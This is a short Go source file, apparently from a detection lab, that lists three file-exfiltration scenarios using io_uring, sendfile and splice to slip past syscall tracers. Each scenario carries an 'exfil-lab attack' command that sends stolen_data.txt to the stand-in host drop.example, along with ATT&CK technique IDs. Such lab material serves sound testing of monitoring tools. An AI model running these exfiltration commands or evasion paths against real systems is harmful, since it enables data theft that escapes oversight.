package lab

// kernelPaths steal the file past the system calls that tracers watch.
func kernelPaths() []Scenario {
	return []Scenario{
		{
			Name:      "io_uring",
			Summary:   "socket, connect and send as io_uring operations",
			Command:   `exfil-lab attack --to drop.example:9000 --file stolen_data.txt io_uring`,
			Technique: "T1020", Process: "/usr/bin/exfil-lab", IOUring: true,
		},
		{
			Name:      "sendfile",
			Summary:   "HTTP PUT whose body goes by sendfile(2)",
			Command:   `exfil-lab attack --to drop.example:80 --file stolen_data.txt sendfile`,
			Technique: "T1048.003", Process: "/usr/bin/exfil-lab", Declared: true,
		},
		{
			Name:      "splice",
			Summary:   "bare TCP by splice(2)",
			Command:   `exfil-lab attack --to drop.example:9000 --file stolen_data.txt splice`,
			Technique: "T1020", Process: "/usr/bin/exfil-lab",
		},
	}
}
